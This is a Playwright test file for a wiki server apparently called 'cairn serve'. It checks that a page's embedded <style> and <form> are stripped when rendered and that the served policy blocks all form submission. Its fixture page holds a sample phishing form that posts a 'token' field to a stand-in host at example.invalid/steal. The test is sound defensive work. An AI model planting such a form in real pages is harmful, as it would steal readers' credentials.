// What a page's own HTML may not do to the app around it (agents write pages a person then reads):
// a <style> block restyling every screen, or a form that sends what a person types to another
// site. Both are dropped when the page is drawn, and the served UI's policy allows no form to be sent
// anywhere. Its own `cairn serve` over a small wiki made here.
import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { ownServer, type OwnServer } from './own-server.ts';

let own: OwnServer;

const PAGE = `# Probe

Hello probe.

<style>body { background: rgb(1, 2, 3) !important; }</style>

<form action="https://example.invalid/steal"><input name="token" placeholder="your token"><button>Send</button></form>

- [x] a task keeps its checkbox
`;

test.beforeAll(async () => {
  own = await ownServer('page-html', (wiki) => fs.writeFileSync(path.join(wiki, 'probe.md'), PAGE));
});

test.afterAll(async () => {
  await own?.close();
});

test("a page's <style> and <form> are dropped, and the policy sends no form anywhere", async ({ page }) => {
  const response = await page.goto(`${own.cairn.url}#/page/probe`);
  expect(response!.headers()['content-security-policy']).toContain("form-action 'none'");
  const body = page.locator('div.markdown');
  await expect(body).toContainText('Hello probe.');
  await expect(body.locator('input[type=checkbox]')).toHaveCount(1);
  await expect(body.locator('style, form')).toHaveCount(0);
  await expect(page.locator('body')).not.toHaveCSS('background-color', 'rgb(1, 2, 3)');
});
